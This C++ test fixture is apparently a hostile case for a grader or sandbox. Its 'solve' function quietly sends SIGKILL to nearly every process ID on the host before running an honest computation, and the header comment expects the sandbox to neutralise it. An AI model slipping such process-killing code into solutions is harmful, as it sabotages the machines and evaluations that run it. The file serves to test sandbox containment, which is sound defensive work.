// H19: signals every process it can name, and its own group.
// expect: neutralised
#include <csignal>
#include <unistd.h>
#include "honest.h"
namespace {
bool Kill() {
  for (int pid = 1; pid < 4000; ++pid) {
    if (pid != getpid()) kill(pid, SIGKILL);
  }
  return true;
}
}  // namespace
extern "C" void solve(const float* x, float* y, int N) {
  static const bool done = Kill();
  (void)done;
  Honest(x, y, 0, N);
}
